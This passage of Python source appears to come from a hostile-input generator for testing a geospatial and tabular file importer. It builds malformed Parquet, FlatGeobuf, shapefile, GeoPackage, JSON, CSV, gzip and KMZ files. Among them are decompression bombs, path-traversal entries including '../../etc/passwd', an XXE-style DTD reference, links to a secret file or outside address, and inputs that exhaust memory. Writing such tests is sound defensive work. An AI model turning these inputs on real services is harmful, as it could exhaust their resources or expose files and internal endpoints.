        "control": columns(**{"\x1b[2J": pa.array([1]), "\u202e": pa.array([2])}),
        "footer-lie": _bytes(b"PAR1" + b"\xff" * 100 + struct.pack("<I", 2**31 - 1) + b"PAR1"),
        "head-alone": _bytes(b"PAR1"),
    }
    for name, write in cases.items():
        yield f"parquet-{name}.parquet", write
    for seed in range(12):
        yield f"parquet-damaged-{seed}.parquet", _damaged("parquet", seed)


# --- FlatGeobuf and shapefiles ---------------------------------------------------------------------------------------


def _flatgeobuf(target: Target) -> Iterator[Case]:
    magic = b"fgb\x03fgb\x01"
    yield "fgb-head-alone.fgb", _bytes(magic)
    yield "fgb-size-lie.fgb", _bytes(magic + b"\xff\xff\xff\x7f" + bytes(100))
    yield "fgb-size-negative.fgb", _bytes(magic + b"\xff\xff\xff\xff" + bytes(100))
    yield "fgb-noise.fgb", _bytes(magic + random.Random(1).randbytes(50_000))
    for seed in range(20):
        yield f"fgb-damaged-{seed}.fgb", _damaged("fgb", seed)


def _shapefile(target: Target) -> Iterator[Case]:
    header = struct.pack(">i5i", 9994, 0, 0, 0, 0, 0) + struct.pack(">i", 2**31 - 1) + struct.pack("<ii", 1000, 5) + bytes(64)
    yield "shp-header-alone.shp", _bytes(header)
    yield "shp-record-lie.zip", _bytes(zipped({"a.shp": header + struct.pack(">ii", 1, 2**31 - 1) + struct.pack("<i", 5)}))
    yield "shp-parts-lie.zip", _bytes(_shapes({"a.shp": _poly(2**31 - 1, 1)}))
    yield "shp-points-lie.zip", _bytes(_shapes({"a.shp": _poly(1, 2**31 - 1)}))
    dbf = bytes([3, 126, 1, 1]) + struct.pack("<IHH", 2**32 - 1, 65_535, 65_535) + bytes(20)
    yield "shp-dbf-lie.zip", _bytes(_shapes({"a.dbf": dbf + b"x" * 1000}))
    yield "shp-dbf-no-end.zip", _bytes(_shapes({"a.dbf": dbf[:32] + b"A" * 60_000}))
    yield "shp-prj-nested.zip", _bytes(_shapes({"a.prj": "PROJCS[" * 50_000}))
    yield "shp-prj-link.zip", _bytes(_shapes({"a.prj": f"{target.address}/crs"}))
    yield "shp-prj-file.zip", _bytes(_shapes({"a.prj": str(target.secret)}))
    yield "shp-prj-long.zip", _bytes(_shapes({"a.prj": "x" * 9_000_000}))
    yield "shp-cpg-long.zip", _bytes(_shapes({"a.cpg": "x" * 1_000_000}))
    yield "shp-cpg-odd.zip", _bytes(_shapes({"a.cpg": "../../etc/passwd\0"}))
    yield "shp-qix.zip", _bytes(_shapes({"a.qix": b"SQT\x01\x01\x00\x00\x00" + b"\xff" * 5_000}))
    yield "shp-xml.zip", _bytes(_shapes({"a.shp.xml": f'<!DOCTYPE x SYSTEM "{target.address}/x.dtd"><x/>'}))
    for seed in range(16):
        yield f"shp-damaged-{seed}.zip", _damaged_shapefile(seed)


def _poly(parts: int, points: int) -> bytes:
    content = struct.pack("<i4d2i", 5, 0, 0, 1, 1, parts, points) + struct.pack("<i", 0) + struct.pack("<2d", 0, 0) * 5
    record = struct.pack(">ii", 1, len(content) // 2) + content
    length = (100 + len(record)) // 2
    header = struct.pack(">i5ii", 9994, 0, 0, 0, 0, 0, length) + struct.pack(
        "<ii4d4d", 1000, 5, *(0.0, 0.0, 1.0, 1.0), *[0.0] * 4
    )
    return header + record


def _sound_shapes() -> dict[str, bytes | str]:

    with tempfile.TemporaryDirectory() as folder:
        pyogrio.write_dataframe(_frame(50), Path(folder) / "a.shp", encoding="UTF-8")
        return {path.name: path.read_bytes() for path in sorted(Path(folder).iterdir())}


def _shapes(change: dict[str, bytes | str]) -> bytes:
    return zipped(_sound_shapes() | change)


def _damaged_shapefile(seed: int) -> Writer:
    def write(path: Path) -> None:
        chance = random.Random(f"shp {seed}")
        parts = _sound_shapes()
        name = chance.choice(sorted(parts))
        content = parts[name]
        data = bytearray(content.encode() if isinstance(content, str) else content)
        for _ in range(chance.choice((1, 8))):
            at = chance.randrange(max(len(data) - 4, 1))
            data[at : at + 4] = chance.choice((b"\xff" * 4, bytes(4), chance.randbytes(4)))
        path.write_bytes(zipped(parts | {name: bytes(data[: chance.choice((len(data), len(data) // 2))])}))

    return write


# --- more memory, time or stack than a table needs -------------------------------------------------------------------


def _large(target: Target) -> Iterator[Case]:
    text, digits = "x" * MIB, "1." + "1" * 1_000
    yield "parquet-one-text.parquet", lambda path: pq.write_table(pa.table({"id": [text] * 3_000}), path)
    yield "parquet-short-of-long.parquet", lambda path: pq.write_table(pa.table({"id": ["x" * 99_000] * 20_000}), path)
    yield "parquet-lists.parquet", lambda path: pq.write_table(pa.table({"id": [list(range(100_000))] * 200}), path)
    yield "parquet-structs.parquet", lambda path: pq.write_table(pa.table({"id": [{"a": [{"b": text}] * 20}] * 50}), path)
    yield "xlsx-sheets-200.xlsx", lambda path: _sheets(path, 200, 500)
    yield "xlsx-sheets-39.xlsx", lambda path: _sheets(path, 39, 2_000)
    yield "xlsx-decimals.xlsx", lambda path: _workbook(path, [["id", "lon"], [digits, digits]])
    yield "xlsx-wide.xlsx", lambda path: _workbook(path, [[f"c{n}" for n in range(4_000)], *[list(range(4_000))] * 30])
    yield (
        "gpkg-blobs-150.gpkg",
        _gpkg(
            (
                "CREATE TABLE evil (fid INTEGER PRIMARY KEY, a BLOB)",
                "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n LIMIT 150) "
                "INSERT INTO evil SELECT x, zeroblob(1000000) FROM n",
                "INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('evil', 'attributes', 'evil')",
            )
        ),
    )
    yield (
        "gpkg-view-large.gpkg",
        _gpkg(
            (
                "CREATE VIEW evil AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n LIMIT 4000) "
                "SELECT x AS fid, hex(zeroblob(500000)) AS id FROM n",
                "INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('evil', 'attributes', 'evil')",
            )
        ),
    )
    yield (
        "gpkg-texts.gpkg",
        _gpkg(
            (
                "CREATE TABLE evil (fid INTEGER PRIMARY KEY, a TEXT)",
                "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n LIMIT 3000) "
                "INSERT INTO evil SELECT x, hex(zeroblob(45000)) FROM n",
                "INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('evil', 'attributes', 'evil')",
            )
        ),
    )
    texts: dict[str, str | bytes] = {
        "json-decimals.json": f'[{{"id": {digits}, "lon": {digits}, "lat": {"9" * 5_000}}}]',
        "json-deep.json": '[{"id": ' + "[" * 100_000 + "]" * 100_000 + "}]",
        "json-keys.json": "[" + ",".join(f'{{"k{n}": 1}}' for n in range(20_000)) + "]",
        "json-long.json": f'[{{"id": "{"x" * 5_000_000}"}}]',
        "json-records.json": "[" + ",".join(['{"id": "1", "name": "a"}'] * 200_000) + "]",
        "json-lines.jsonl": '{"id": "1"}\n' * 200_000 + '{"id": ',
        "json-nan.json": '[{"id": NaN, "lon": Infinity, "lat": -Infinity}]',
        "json-same.json": '[{"id": 1, "id": 2}]',
        "geojson-number.geojson": '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"id":'
        + digits
        + "},"
        '"geometry":null}]}',
        "gz-bomb.csv.gz": gzip.compress(b"id,name\n" + b"1,a\n" * 40_000_000, 1),
        "gz-twice.csv.gz": gzip.compress(gzip.compress(b"id\n1\n")),
        "gz-head.csv.gz": b"\x1f\x8b\x08\x00",
        "kmz-bomb.kmz": zipped({"doc.kml": b"<kml><Document>" + b"<Placemark/>" * 6_000_000}),
        "kmz-climbs.kmz": zipped({"../doc.kml": "<kml/>"}),
        "kmz-many.kmz": zipped({f"{n}.kml": "<kml/>" for n in range(3_000)}),
        "csv-one-row-of-quotes.csv": 'id,name\n1,"' + '""' * 3_000_000 + '"\n',
        "csv-lines-in-a-cell.csv": 'id,name\n1,"' + "a\n" * 3_000_000 + '"\n',
        "csv-\udcff\udcfe.csv": "id,name,lon,lat\n1,a,2,3\n",
        "csv-\udcff-not-text.csv": b"\x00\x01\x02",
    }
    for name, content in texts.items():
        yield name, _bytes(content)


def _sheets(path: Path, sheets: int, rows: int) -> None:
    book = openpyxl.Workbook(write_only=True)
    for number in range(sheets):
        sheet = book.create_sheet(f"s{number}")
        for row in range(rows):
            sheet.append([f"k{row}", "name", 1.5, 2.5] if row else ["id", "name", "lon", "lat"])
    book.save(path)


def _workbook(path: Path, rows: Sequence[Sequence[object]]) -> None:
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("s")
    for row in rows:
        sheet.append(list(row))
    book.save(path)
